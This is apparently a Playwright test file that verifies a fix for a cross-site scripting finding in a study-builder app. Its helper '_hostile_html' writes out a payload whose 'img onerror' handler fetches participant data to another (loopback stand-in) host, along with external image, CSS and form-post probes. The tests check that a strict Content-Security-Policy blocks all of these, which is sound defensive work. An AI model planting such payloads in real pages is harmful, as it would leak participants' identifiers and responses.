"""Review finding 3 in a real browser (Chromium via Playwright): HTML in a study config keeps its
formatting, but its scripts and event-handler attributes do not run, and nothing it contains
can reach another host (images, fetches, forms, CSS). The Interpreter and the Builder are
served with a strict Content-Security-Policy and load without a single violation of it.

The reproduction: a config's `<img onerror=...>` ran as script in the kiosk and could send the
participant id and responses to any host."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from chromium import CHROMIUM
from conftest import LiveServer, publish

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright (pip) is not installed")
pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Chromium not installed")

RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation',
  (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI), true);
"""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another host, as far as the page is concerned (another loopback port): what reaches it."""
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", seen
    server.shutdown()


def _hostile_html(other: str) -> str:
    return (
        '<p><b id="fmt" style="color: rgb(200, 0, 0)">Bold stimulus</b> <i>kept</i></p>'
        f'<img id="bad" src="/no-such-image.png" onerror="window.handlerRan = 1; '
        f"fetch('{other}/handler?p=' + location.search)\">"
        f'<img src="{other}/pixel.gif">'
        f'<div style="background-image: url({other}/css.gif)">css</div>'
        "<script>window.scriptRan = 1;</script>"
        f'<form action="{other}/form" method="post">'
        '<button id="go" type="submit">go</button></form>'
        "Press any key"
    )


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        yield b
        b.close()


def _page(browser: Any) -> Any:
    page = browser.new_page()
    page.add_init_script(RECORD_VIOLATIONS)
    return page


@pytest.mark.parametrize("path", ["/interpreter/", "/builder/", "/portal/"])
def test_pages_are_served_with_a_strict_policy(live_server: LiveServer, path: str) -> None:
    csp = requests.get(live_server.url + path, timeout=30).headers["Content-Security-Policy"]
    directives = dict(
        (part.split()[0], part.split()[1:]) for part in csp.split(";") if part.strip()
    )
    assert directives["script-src"] == ["'self'"]
    assert directives["connect-src"] == ["'self'"]
    assert set(directives["img-src"]) <= {"'self'", "data:", "blob:"}
    assert directives["object-src"] == ["'none'"]
    assert directives["form-action"] == ["'self'"]
    assert "'unsafe-inline'" not in directives["script-src"]


def test_config_html_keeps_formatting_but_runs_nothing(
    live_server: LiveServer, browser: Any, elsewhere: tuple[str, list[str]]
) -> None:
    other, seen = elsewhere
    config = {
        "experiment_type": "trial-based",
        "task_type": "custom",
        "timeline": [{"type": "html-keyboard-response", "stimulus": _hostile_html(other)}],
    }
    publish(live_server.url, "csp-hostile", config)
    page = _page(browser)
    page.goto(f"{live_server.url}/interpreter/?study=csp-hostile&participant=P-csp-secret")
    page.wait_for_selector("#fmt", timeout=60000)
    page.wait_for_load_state("networkidle")
    # Formatting is kept ...
    styled = page.evaluate(
        "(() => { const s = getComputedStyle(document.getElementById('fmt'));"
        " return [s.fontWeight, s.color]; })()"
    )
    assert int(styled[0]) >= 600 and styled[1] == "rgb(200, 0, 0)"
    # ... while scripts and handlers do not run, and nothing leaves for another host.
    assert page.evaluate("[window.handlerRan, window.scriptRan]") == [None, None]
    assert seen == [], seen
    violations = page.evaluate("window.__violations")
    assert any(v.startswith("script-src") for v in violations), violations
    page.evaluate("document.getElementById('go').click()")  # a form posting elsewhere
    page.wait_for_load_state("networkidle")
    assert seen == [], seen
    assert page.url.startswith(live_server.url)
    page.close()


@pytest.mark.parametrize("path", ["/builder/", "/interpreter/?study=csp-plain&participant=P"])
def test_the_apps_themselves_violate_nothing(
    live_server: LiveServer, browser: Any, path: str
) -> None:
    publish(
        live_server.url,
        "csp-plain",
        {
            "experiment_type": "trial-based",
            "task_type": "custom",
            "timeline": [{"type": "instructions", "stimulus": "<h1>Welcome</h1>"}],
        },
    )
    page = _page(browser)
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.goto(live_server.url + path)
    page.wait_for_load_state("networkidle")
    if path.startswith("/interpreter"):
        page.wait_for_selector("h1", timeout=60000)
    else:
        page.wait_for_selector("#library-list *", timeout=60000)
    assert page.evaluate("window.__violations") == []
    assert errors == []
    page.close()
